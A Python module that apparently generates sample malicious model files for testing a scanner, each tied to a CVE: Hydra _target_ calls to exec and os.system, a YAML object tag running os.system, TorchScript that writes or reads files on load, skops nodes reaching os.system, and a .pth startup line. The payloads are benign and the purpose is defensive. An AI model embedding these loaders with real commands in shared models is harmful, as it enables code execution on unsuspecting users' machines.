"""Formats with fewer readers: configurations that name what to call, TorchScript, skops, lines that Python runs at its start."""

import json

from .archives import regular, tarred, torch_archive, zipped
from .assemble import HARMLESS_CODE, HARMLESS_EXPRESSION, encode, proto

UNIT42 = "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"


def script(code):
    """TorchScript: its code runs when forward, or __setstate__, does."""
    empty = proto(2) + b"c__torch__\nM\n)\x81}b."
    return torch_archive({"data.pkl": empty, "code/__torch__.py": code.encode(), "constants.pkl": proto(2) + encode(()) + b"."})


def skops(tree):
    return zipped([("schema.json", json.dumps({**tree, "protocol": 2, "_skops_version": "0.11.0"}).encode())])


def items():
    yield "nemo-target.nemo", tarred([regular("model_config.yaml", f"target: x\n_target_: builtins.exec\n_args_:\n  - \"{HARMLESS_EXPRESSION}\"\n".encode()), regular("model_weights.ckpt", b"")]), "a configuration whose _target_ Hydra would call", "CVE-2025-23304"
    yield "hydra-target/model_config.yaml", b"encoder:\n  _target_: os.system\n  command: \"true\"\n", "a configuration whose _target_ Hydra would call", UNIT42
    yield "yaml-object/config.yaml", b"model: !!python/object/apply:os.system ['true']\n", "a tag of YAML that makes an object of Python", "CVE-2020-14343"
    yield "attention-config/config.json", json.dumps({"architectures": ["LlamaForCausalLM"], "model_type": "llama", "_attn_implementation_internal": "none/none:kernel"}).encode(), "a configuration that fetches code past trust_remote_code", "CVE-2026-4372"
    saves = "class M(Module):\n  __parameters__ = []\n  def __setstate__(self, x: int) -> NoneType:\n    torch.save(torch.ones([1]), \"touched-by-scan-corpus\")\n    return None\n"
    yield "torchscript-save.pt", script(saves), "TorchScript that writes a file while it is loaded", "CVE-2025-32434"
    reads = "class M(Module):\n  __parameters__ = []\n  def forward(self, x: Tensor) -> Tensor:\n    return torch.from_file(\"/etc/hostname\", True, 8)\n"
    yield "torchscript-from-file.pt", script(reads), "TorchScript that maps a file of the machine", "CVE-2025-32434"
    leaf = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps("true"), "is_json": True, "__id__": 3}
    attributes = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [leaf], "__id__": 2}
    yield "skops-operator.skops", skops({"__class__": "call", "__module__": "builtins", "__loader__": "OperatorFuncNode", "attrs": attributes, "__id__": 1}), "a node that passes for another", "CVE-2025-54412"
    yield "skops-function.skops", skops({"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "__id__": 1}), "a function of any module", "CVE-2025-54413"
    yield "startup-lines.pth", f"import os;{HARMLESS_CODE.partition(';')[2].strip()}\n".encode(), "a text under the extension of torch, whose line Python runs at its start", "https://docs.python.org/3/library/site.html"
